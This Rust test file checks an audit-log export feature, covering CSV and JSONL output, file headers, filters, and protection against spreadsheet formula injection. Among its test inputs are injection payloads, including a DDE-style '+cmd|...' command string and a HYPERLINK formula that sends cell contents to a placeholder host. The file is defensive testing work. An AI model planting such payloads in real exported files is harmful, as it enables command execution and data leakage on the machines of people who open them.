//! The audit log as a file.

use mami_auth::Role;
use serde_json::{Value, json};

use super::{AUDIT, EXPORT, INVITES, entries, text};
use crate::{
    people::{page, path_of},
    server::{Answer, Client, TestServer, places},
};

/// Takes apart what RFC 4180 describes.
fn parse(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut rest = csv.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '"' if quoted && rest.next_if_eq(&'"').is_some() => field.push('"'),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut field)),
            '\r' if !quoted => {
                assert_eq!(rest.next(), Some('\n'));
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            c => field.push(c),
        }
    }
    assert!(!quoted && row.is_empty() && field.is_empty(), "the last line ends like the others");
    rows
}

/// An entry as a row of the file tells it.
fn entry(head: &[String], row: &[String]) -> Value {
    assert_eq!(row.len(), head.len(), "{row:?}");
    let fields = head.iter().zip(row).map(|(name, field)| {
        // The mark that makes a text of what would be a formula.
        let plain = field.strip_prefix('\'').filter(|rest| rest.starts_with(['=', '+', '-', '@']));
        let value = match (name.as_str(), plain.unwrap_or(field)) {
            (_, "") => Value::Null,
            ("at", at) => json!(at.parse::<chrono::DateTime<chrono::Utc>>().unwrap()),
            ("detail", detail) => serde_json::from_str(detail).unwrap(),
            (_, text) => json!(text),
        };
        (name.clone(), value)
    });
    Value::Object(fields.collect())
}

/// All entries, newest first, page by page.
async fn walk(client: &Client) -> Vec<Value> {
    let (mut all, mut cursor) = (Vec::new(), None::<String>);
    loop {
        let mut query = vec![("limit", "150")];
        query.extend(cursor.as_deref().map(|cursor| ("cursor", cursor)));
        let page = page(client, AUDIT, &query).await;
        all.extend(page["items"].as_array().unwrap().clone());
        cursor = page["next_cursor"].as_str().map(str::to_owned);
        if cursor.is_none() {
            return all;
        }
    }
}

/// An entry in which nothing and an empty text are the same, as they are in a file.
fn as_in_file(entry: &Value) -> Value {
    let mut entry = entry.clone();
    for value in entry.as_object_mut().unwrap().values_mut().filter(|value| **value == "") {
        *value = Value::Null;
    }
    entry
}

fn is_file(answer: &Answer, kind: &str, name: &str) {
    assert_eq!((answer.status.as_u16(), answer.header("content-type")), (200, kind));
    assert_eq!(answer.header("content-disposition"), format!("attachment; filename=\"{name}\""));
    assert_eq!(
        (answer.header("x-content-type-options"), answer.header("cache-control")),
        ("nosniff", "no-store")
    );
}

#[tokio::test]
async fn the_files_tell_what_the_list_tells_and_run_no_formula() {
    for place in places().await {
        let server = TestServer::on(&place, &[]).await;
        let ada = server.owner().await;
        let names = ["=1+1", "+cmd|'/C'!A0", "-2+3", "@SUM(A1)", "a\"b,c", "'quoted'", "x;y", "ünï🦊"];
        for name in names {
            server.create(name, Role::Member).await;
        }
        for note in ["=HYPERLINK(\"http://x.example/\"&A1,\"y\")", "one, \"two\"\u{2028}", "-", "\"", ""] {
            assert_eq!(ada.post(INVITES, &json!({ "note": note })).await.status, 201);
        }
        let bob = server.member("bob").await;
        let bobs = path_of(&bob).await;
        // More than is read at once.
        for number in 0..230 {
            let name = format!("={number},\"{number}\"");
            assert_eq!(ada.patch(&bobs, &json!({ "display_name": name })).await.status, 200);
        }
        let all = walk(&ada).await;
        assert!(all.len() > 240);

        let csv = ada.get(EXPORT).await;
        is_file(&csv, "text/csv; charset=utf-8", "mami-audit.csv");
        assert_eq!(ada.get(&format!("{EXPORT}?format=csv")).await.body, csv.body);
        let rows = parse(&csv.body);
        let (head, rows) = rows.split_first().unwrap();
        let names_of_all =
            ["id", "at", "actor_id", "actor_name", "action", "target_id", "target_name", "address", "detail"];
        assert_eq!(*head, names_of_all);
        let told: Vec<_> = rows.iter().map(|row| entry(head, row)).collect();
        let expected: Vec<_> = all.iter().map(as_in_file).collect();
        assert_eq!(told, expected);
        // A spreadsheet takes a field that begins like this for something to work out.
        for field in rows.iter().flatten() {
            assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{field:?}");
        }

        let lines = ada.get(&format!("{EXPORT}?format=jsonl")).await;
        is_file(&lines, "application/jsonl; charset=utf-8", "mami-audit.jsonl");
        let told: Vec<Value> = lines.body.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(told, all);

        // The same filters; how many and from where on is no question for a file.
        let query = "action=user.created&limit=1&format=jsonl";
        let lines = ada.get(&format!("{EXPORT}?{query}")).await.body;
        let told: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(told, entries(&ada, &[("action", "user.created")]).await);
        let mut created: Vec<_> = told.iter().map(|entry| text(entry, "target_name")).collect();
        created.reverse();
        assert_eq!(created.split_last().unwrap(), (&"bob", &names[..]), "names are told as they are");
        let none = ada.get(&format!("{EXPORT}?to=2000-01-01T00:00:00Z")).await.body;
        assert_eq!(parse(&none), std::slice::from_ref(head));
        for query in ["format=xml", "actor=bob", "limit=0&who=x"] {
            assert_eq!(ada.get(&format!("{EXPORT}?{query}")).await.problem().0, 422, "{query}");
        }
        drop(place);
        server.stop().await;
    }
}
